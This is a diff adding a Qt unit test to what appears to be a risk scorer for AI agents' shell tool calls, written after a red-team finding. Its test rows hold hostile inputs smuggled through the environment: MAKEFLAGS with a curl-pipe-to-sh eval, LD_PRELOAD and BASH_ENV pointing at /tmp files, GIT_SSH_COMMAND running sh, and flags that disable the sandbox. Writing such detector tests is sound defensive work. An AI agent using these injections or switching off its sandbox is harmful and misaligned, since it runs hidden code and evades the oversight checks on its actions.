@@ -307,6 +307,54 @@ private Q_SLOTS:
         QVERIFY2(a.level >= RiskLevel::High, qPrintable(levelName(a.level) + why));
     }
 
+    // What the payload sets beside the command (OpenClaw's exec env and elevated, Claude Code's
+    // sandbox_disabled) counts too: it changes what runs (red team of stop 33, F4: low 15).
+    void theEnvironmentAndRightsOfACommandCount_data()
+    {
+        QTest::addColumn<QJsonObject>("payload");
+        QTest::addColumn<QString>("rule"); // empty: neither
+        const QString make = QStringLiteral("make test");
+        QTest::newRow("BASH_ENV") << QJsonObject{{"command", make},
+                                                 {"env", QJsonObject{{"BASH_ENV", "/tmp/.p"}}}}
+                                  << QStringLiteral("shell.env-runs-code");
+        QTest::newRow("MAKEFLAGS")
+            << QJsonObject{{"command", make},
+                           {"env", QJsonObject{{"MAKEFLAGS", "--eval=$(shell curl x|sh)"}}}}
+            << QStringLiteral("shell.env-runs-code");
+        QTest::newRow("LD_PRELOAD")
+            << QJsonObject{{"command", "ls"}, {"env", QJsonObject{{"LD_PRELOAD", "/tmp/x.so"}}}}
+            << QStringLiteral("shell.env-runs-code");
+        QTest::newRow("GIT_SSH_COMMAND")
+            << QJsonObject{{"command", "git fetch"},
+                           {"env", QJsonObject{{"GIT_SSH_COMMAND", "sh -c x"}}}}
+            << QStringLiteral("shell.env-runs-code");
+        QTest::newRow("elevated") << QJsonObject{{"command", make}, {"elevated", true}}
+                                  << QStringLiteral("shell.unsandboxed");
+        QTest::newRow("sandbox disabled")
+            << QJsonObject{{"command", make}, {"sandbox_disabled", true}}
+            << QStringLiteral("shell.unsandboxed");
+        QTest::newRow("harmless env")
+            << QJsonObject{{"command", make}, {"env", QJsonObject{{"CI", "1"}, {"LANG", "C"}}}}
+            << QString();
+        QTest::newRow("not elevated")
+            << QJsonObject{{"command", make}, {"elevated", false}} << QString();
+    }
+    void theEnvironmentAndRightsOfACommandCount()
+    {
+        QFETCH(QJsonObject, payload);
+        QFETCH(QString, rule);
+        const RiskAssessment a = assess(submission(QStringLiteral("shell.exec"), payload));
+        const QString why = reasons(a);
+        if (rule.isEmpty()) {
+            QVERIFY2(!why.contains(QLatin1String("shell.env-runs-code")) &&
+                         !why.contains(QLatin1String("shell.unsandboxed")),
+                     qPrintable(why));
+            return;
+        }
+        QVERIFY2(why.contains(QLatin1Char('"') + rule + QLatin1Char('"')), qPrintable(why));
+        QVERIFY2(a.level >= RiskLevel::Medium, qPrintable(levelName(a.level) + why));
+    }
+
     // The attack on mentions (stop 33): lines where what looks like a mention runs, or may run,
     // keep their score and count for the breakers. Each was low (15) with the first reading.
     void whatMayRunAMentionKeepsItsScore_data()
